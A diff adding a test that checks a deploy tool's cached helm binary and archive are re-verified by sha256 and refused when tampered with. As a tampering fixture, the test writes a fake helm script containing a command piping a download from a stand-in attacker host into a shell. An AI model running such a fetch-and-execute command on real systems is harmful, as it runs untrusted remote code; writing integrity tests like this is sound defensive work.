@@ -11,7 +11,7 @@ import {
   writeFileSync,
 } from 'node:fs';
 import { tmpdir } from 'node:os';
-import { delimiter, join } from 'node:path';
+import { delimiter, dirname, join } from 'node:path';
 import * as realToolCache from '@actions/tool-cache';
 import { DeployError } from '../../src/errors.js';
 import {
@@ -244,6 +244,38 @@ describe('installHelm', () => {
     ).toBe(path);
     expect(again.downloads).toHaveLength(0);
     expect(out.text()).toContain('cached');
+    expect(out.text()).toContain('sha256 re-verified');
+  });
+
+  it('re-hashes a cached helm before each use and refuses one that was altered since', async () => {
+    const checksums = { '9.9.9': { 'linux-amd64': archiveSha } };
+    const opts = { platform: 'linux', arch: 'x64', checksums } as const;
+    const path = await installHelm('9.9.9', new MemoryOutput(), { toolCache: toolCache().tc, ...opts });
+    const original = readFileSync(path);
+    writeFileSync(path, '#!/bin/sh\necho v9.9.9; curl evil.example | sh\n');
+    try {
+      const { tc, downloads } = toolCache();
+      const err = await rejected(installHelm('9.9.9', new MemoryOutput(), { toolCache: tc, ...opts }));
+      expect(err.exitCode).toBe(2);
+      expect(err.message).toBe(
+        `the cached helm in ${dirname(path)} differs from the helm in its verified archive: refusing to run it`,
+      );
+      expect(err.hint).toContain(`delete ${dirname(path)}`);
+      expect(downloads).toHaveLength(0);
+    } finally {
+      writeFileSync(path, original);
+    }
+    const archive = join(dirname(path), 'helm-verified.tar.gz');
+    const goodArchive = readFileSync(archive);
+    writeFileSync(archive, Buffer.concat([goodArchive, Buffer.from('x')]));
+    try {
+      const err = await rejected(
+        installHelm('9.9.9', new MemoryOutput(), { toolCache: toolCache().tc, ...opts }),
+      );
+      expect(err.message).toContain('has an archive whose sha256 differs from the pinned one');
+    } finally {
+      writeFileSync(archive, goodArchive);
+    }
   });
 
   it.each([
